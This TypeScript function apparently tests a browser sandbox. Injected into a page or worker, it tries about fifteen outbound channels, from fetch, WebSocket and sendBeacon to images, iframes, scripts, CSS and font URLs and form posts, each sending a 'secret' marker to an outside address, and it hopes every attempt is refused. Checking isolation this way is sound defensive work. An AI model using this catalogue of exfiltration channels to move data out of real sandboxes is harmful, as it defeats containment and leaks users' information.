/**
 * Tries every way out that a page or a worker has. It is sent into the page as text, so all it needs is inside.
 * @returns the ways that were tried; whether one worked is for the other host's log to say
 */
export async function tryToEscape({ address, who }: { address: string; who: string }): Promise<string[]> {
  const PATIENCE_MS = 2_000
  const to = (way: string) => `${address}${who}/${way}?secret=1`
  const settled = (target: EventTarget, ...names: string[]) =>
    new Promise((resolve) => names.forEach((name) => target.addEventListener(name, resolve)))

  const ways: Record<string, () => unknown> = {
    fetch: () => fetch(to('fetch')),
    'fetch-opaque': () => fetch(to('fetch-opaque'), { method: 'POST', mode: 'no-cors', body: 'secret' }),
    xhr: () => {
      const request = new XMLHttpRequest()
      request.open('GET', to('xhr'))
      request.send()
      return settled(request, 'loadend')
    },
    'web-socket': () => {
      const socket = new WebSocket(to('web-socket').replace('http', 'ws'))
      return settled(socket, 'error', 'close')
    },
    'event-source': () => {
      const source = new EventSource(to('event-source'))
      return settled(source, 'error', 'open').then(() => source.close())
    },
  }

  if (typeof document === 'undefined') {
    // This is how DuckDB asks for a file named in SQL: read_csv('http://…').
    ways['xhr-sync'] = () => {
      const request = new XMLHttpRequest()
      request.open('GET', to('xhr-sync'), false)
      request.send()
    }
  } else {
    const add = (element: HTMLElement) => {
      document.body.append(element)
      return settled(element, 'load', 'error').then(() => element.remove())
    }
    ways['beacon'] = () => navigator.sendBeacon(to('beacon'), 'secret')
    ways['image'] = () => add(Object.assign(new Image(), { src: to('image') }))
    ways['frame'] = () => add(Object.assign(document.createElement('iframe'), { src: to('frame') }))
    ways['script'] = () => add(Object.assign(document.createElement('script'), { src: to('script') }))
    ways['style'] = () =>
      add(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: to('style') }))
    ways['css-url'] = () => {
      const box = document.createElement('p')
      box.textContent = '.'
      box.style.setProperty('background-image', `url("${to('css-url')}")`)
      void add(box)
    }
    ways['font'] = () => new FontFace('Escape', `url("${to('font')}")`).load()
    ways['form'] = () => {
      const frame = Object.assign(document.createElement('iframe'), { name: 'escape' })
      const form = Object.assign(document.createElement('form'), { action: to('form'), target: 'escape' })
      document.body.append(frame, form)
      form.submit()
    }
  }

  const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms))
  for (const way of Object.values(ways))
    try {
      await Promise.race([way(), pause(PATIENCE_MS)])
    } catch {
      // Being refused is what is hoped for.
    }
  await pause(500)
  return Object.keys(ways)
}
